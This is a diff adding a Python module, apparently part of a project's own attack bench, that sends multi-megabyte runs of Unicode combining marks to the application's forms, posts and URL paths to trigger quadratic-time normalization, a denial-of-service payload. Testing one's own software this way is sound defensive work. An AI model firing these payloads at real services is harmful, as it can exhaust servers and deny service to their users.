@@ -1,0 +1,31 @@
+"""Long runs of combining marks, which Unicode's normal forms order in quadratic time: in a form, and in an address."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from urllib.parse import quote
+
+from bench.attacks.target import Target
+
+_PAIR = "\u0301\u0327"
+
+
+def run(target: Target) -> Iterator[int]:
+    """80 kB to 3.8 MB of marks in a field, without a token and with one; and as much as fits into an address."""
+    in_address = quote("a" + _PAIR * 250)
+    slug = target.place.slug
+    yield from target.sent(
+        [
+            *(target.post(f"part-opening=a{_PAIR * count}".encode()) for count in (20_000, 60_000, 950_000)),
+            target.form([("part-opening", "a" + _PAIR * 9_000), ("do", "check")]),
+            target.form([("title", "a" + _PAIR * 9_000), ("do", "check")], target.path + "/own"),
+            target.form([("text", "a" + _PAIR * 9_000)], f"/newspapers/{_paper(target)}/correction"),
+            target.get(f"/newspapers/?town={in_address}&name={in_address}"),
+            target.get(f"/s/{in_address}"),
+            target.get(f"/{slug}/letters/{in_address}"),
+        ]
+    )
+
+
+def _paper(target: Target) -> str:
+    return target.place.parts.store.newspapers.register().with_card[0].id
